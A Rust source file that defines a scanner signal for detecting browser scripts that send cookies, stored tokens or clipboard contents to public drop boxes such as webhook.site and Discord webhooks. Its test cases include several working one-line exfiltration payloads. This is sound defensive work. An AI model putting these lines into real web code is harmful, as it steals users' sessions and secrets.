//! `session-to-drop-box`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "session-to-drop-box",
    description: "The script sends cookies, stored data, typed keys or pictures to a public drop box or a chat bot.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::SessionToDropBox])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "navigator.sendBeacon('https://webhook.site/a',document.cookie)",
            "fetch('https://discord.com/api/webhooks/1/a',{method:'POST',body:JSON.stringify({content:localStorage.token})})",
            "async function c(){const t=await navigator.clipboard.readText();fetch('https://webhook.site/?c='+t)}",
            "navigator.clipboard.readText().then(t=>fetch('https://webhook.site/?c='+t))",
        ],
        without: &[
            "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
            "const cart=localStorage.getItem('cart');fetch('https://api.telegram.org/bot'+t+'/sendMessage',{method:'POST',body:JSON.stringify({chat_id:c,text:'Order '+cart+' phone '+phone.value})})",
            "localStorage.setItem('sent',1);fetch('https://hooks.slack.com/services/a',{method:'POST',body:JSON.stringify({text:'New order'})})",
        ],
    },
};
